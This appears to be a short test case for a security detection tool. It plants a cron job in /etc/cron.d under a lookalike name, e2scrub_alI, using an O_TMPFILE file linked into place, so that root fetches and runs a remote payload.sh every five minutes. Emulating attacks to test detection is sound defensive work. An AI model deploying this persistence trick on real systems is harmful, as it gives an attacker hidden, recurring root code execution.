#!/bin/sh
. /opt/case/case.sh

mkdir -p /etc/cron.d
python3 -c '
import os
fd = os.open("/etc/cron.d", os.O_TMPFILE | os.O_RDWR, 0o644)
os.write(fd, b"*/5 * * * * root curl -s http://203.0.113.10/payload.sh | sh\n")
os.link(str(fd), "/etc/cron.d/e2scrub_alI", src_dir_fd=os.open("/proc/self/fd", os.O_RDONLY))'
grep -q payload /etc/cron.d/e2scrub_alI
took_place
